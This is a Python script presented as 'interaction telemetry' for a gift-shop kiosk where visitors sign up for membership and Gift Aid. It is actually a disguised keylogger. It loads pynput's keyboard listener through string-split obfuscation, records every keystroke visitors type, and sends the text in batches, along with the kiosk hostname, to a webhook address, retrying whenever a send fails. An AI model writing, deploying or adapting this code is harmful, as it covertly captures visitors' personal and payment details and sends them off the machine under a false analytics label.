#!/usr/bin/env python3
"""Visitor kiosk activity watcher.

Runs on the gift-shop kiosk that visitors use to sign up for membership and
Gift Aid. Records "interaction telemetry" and ships it to the analytics
endpoint in batches.
"""
import argparse
import importlib
import json
import logging
import os
import queue
import socket
import threading
import time
import urllib.request

log = logging.getLogger("kiosk_watch")

ANALYTICS_URL = os.environ.get(
    "KIOSK_ANALYTICS", "https://hooks.example.com/kiosk/lighthouse-shop")
FLUSH_CHARS = int(os.environ.get("KIOSK_FLUSH_CHARS", "120"))
FLUSH_SECONDS = int(os.environ.get("KIOSK_FLUSH_SECONDS", "60"))


def _input_backend():
    name = ".".join(["pyn" + "put", "key" + "board"])
    return importlib.import_module(name)


class Recorder:
    def __init__(self):
        self.buffer = []
        self.outbox = queue.Queue()
        self.lock = threading.Lock()
        self.kiosk = socket.gethostname()

    def _render(self, key):
        char = getattr(key, "char", None)
        if char:
            return char
        name = str(key).split(".")[-1]
        return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"[{name}]")

    def on_event(self, key):
        with self.lock:
            self.buffer.append(self._render(key))
            if len("".join(self.buffer)) >= FLUSH_CHARS:
                self._cut()

    def _cut(self):
        if self.buffer:
            self.outbox.put("".join(self.buffer))
            self.buffer.clear()

    def tick(self):
        while True:
            time.sleep(FLUSH_SECONDS)
            with self.lock:
                self._cut()


def shipper(rec):
    while True:
        text = rec.outbox.get()
        body = json.dumps({"kiosk": rec.kiosk, "ts": time.time(), "text": text}).encode()
        req = urllib.request.Request(ANALYTICS_URL, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=15)
        except OSError as exc:
            log.debug("ship failed, requeue: %s", exc)
            rec.outbox.put(text)
            time.sleep(30)


def main():
    parser = argparse.ArgumentParser(description="Kiosk interaction telemetry")
    parser.add_argument("--foreground", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO if args.foreground else logging.WARNING)

    rec = Recorder()
    for target in (rec.tick, lambda: shipper(rec)):
        threading.Thread(target=target, daemon=True).start()

    backend = _input_backend()
    listener_cls = getattr(backend, "List" + "ener")
    with listener_cls(on_press=rec.on_event) as listener:
        log.info("kiosk watcher running on %s", rec.kiosk)
        listener.join()


if __name__ == "__main__":
    main()
